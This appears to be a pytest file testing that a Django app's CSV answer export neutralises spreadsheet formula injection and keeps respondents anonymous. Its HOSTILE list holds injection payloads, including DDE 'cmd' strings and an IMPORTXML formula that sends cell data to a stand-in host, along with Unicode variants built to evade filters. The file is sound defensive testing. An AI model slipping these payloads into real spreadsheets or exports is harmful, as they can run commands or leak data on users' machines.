"""The table of answers: nothing in it runs, and nothing in it tells who wrote what (trust S11, A20)."""

import csv
import io

import pytest

from reflection.domain.drafts import save_draft
from reflection.domain.records import build_record
from reflection.domain.rounds_reveal import reveal_round
from reflection.domain.sessions import close_session
from reflection.enums import Attribution
from reflection.exports.tables import answers_as_csv, safe_cell
from reflection.models import Round, Session
from reflection.tests.sessions import make_open, make_revealed

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://x.example","look")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@echo",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain after a tab",
    "\rplain after a return",
    " =1+1",
    "    =1+1",
    "\u00a0=1+1",
    "\u2003=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u200e=1+1",
    " \u200b =1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\ufe661+1",
    "\ufe621+1",
    "\ufe631+1",
    "\ufe6bSUM(1)",
    " \uff1d1+1",
    "\u22121+1",
    "\x00=1+1",
    "\x1f=1+1",
    "=\u202e1+1",
    "==1",
    "-",
    "=A1\nsecond line",
]
RUNS = (*"=+-@\t\r\n\0", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62", "\ufe63", "\ufe6b", "\u2212")


def rows(record):
    content = answers_as_csv(record)
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def read(session, lead):
    close_session(session=session, by=lead)
    return rows(build_record(Session.objects.with_leads().get(pk=session.pk)))


def test_there_are_forty_hostile_cells():
    assert len(HOSTILE) == len(set(HOSTILE)) == 40


@pytest.mark.parametrize("text", HOSTILE, ids=repr)
def test_safe_cell_lets_nothing_begin_a_formula(text):
    safe = safe_cell(text)
    assert safe[0] == "'"
    assert safe[1:] == text.replace("\0", "")


@pytest.mark.parametrize(
    "text", ["", "Plain words", "2 - 1 is one", "“Quoted” – and more", "a=b", "'apostrophe", "…", "é", "\u00bfWhy?"]
)
def test_safe_cell_leaves_plain_words_as_they_are(text):
    assert safe_cell(text) == text


@pytest.mark.django_db
def test_hostile_answers_come_back_whole_and_harmless(larkmere, framework, lead):
    """Written by members, shown, exported, read again: every cell begins harmlessly and holds every word."""
    session = make_open(larkmere, framework, lead)
    people = list(session.participations.all())
    writable = [text for text in HOSTILE if "\0" not in text]
    for number, text in enumerate(writable):
        save_draft(participation=people[number % 12], round=session.rounds.get(), body=f"{text}", ready=True)
    reveal_round(round=session.rounds.get(), by=lead)
    stored = {answer.body for answer in session.rounds.get().answers.all()}
    table = read(session, lead)
    assert len(table) - 1 == len(writable) == 39
    assert not [cell for row in table for cell in row if cell.startswith(RUNS)]
    assert {row[-1].removeprefix("'") for row in table[1:]} == stored


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("attribution", "head"),
    [
        ("sector", ["Question", "Label", "Words"]),
        ("anonymous", ["Question", "Words"]),
        ("named", ["Question", "Name", "Words"]),
    ],
)
def test_the_table_has_the_columns_that_were_promised(larkmere, framework, lead, attribution, head):
    session, round = make_revealed(larkmere, framework, lead, attribution=attribution)
    question = round.question.title
    table = read(session, lead)
    assert (table[0], len(table)) == (head, 13)
    assert {row[0] for row in table[1:]} == {question}
    people = {participation.membership.person.full_name for participation in session.participations.with_people()}
    named = {cell for row in table for cell in row} & people
    assert named == (people if attribution == "named" else set())


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("attribution", "head"), [("sector", ["Question", "Label", "Words"]), ("anonymous", ["Question", "Words"])]
)
def test_sealed_answers_and_the_names_of_those_who_took_part_are_never_in_one_file(
    larkmere, framework, lead, attribution, head
):
    """Even if one round had names and another did not: the file has no names."""
    session = make_open(larkmere, framework, lead, questions=2, chaired_by=lead, attribution=attribution)
    first, second = session.rounds.all()
    Round.objects.filter(pk=second.pk).update(attribution=Attribution.NAMED)
    for round in (first, second):
        for number, participation in enumerate(session.participations.all()):
            save_draft(participation=participation, round=round, body=f"Thought {number}", ready=True)
        reveal_round(round=round, by=lead)
    table = read(session, lead)
    text = "\n".join(cell for row in table for cell in row)
    assert (table[0], len(table)) == (head, 25)
    assert not [
        p.membership.person.full_name
        for p in session.participations.with_people()
        if p.membership.person.full_name in text
    ]


@pytest.mark.django_db
def test_the_table_is_in_the_mixed_order_and_forgets_the_themes(larkmere, framework, lead):
    session, round = make_revealed(larkmere, framework, lead)
    wanted = [answer.body for answer in round.answers.order_by("pk")]
    assert [row[-1] for row in read(session, lead)[1:]] == wanted
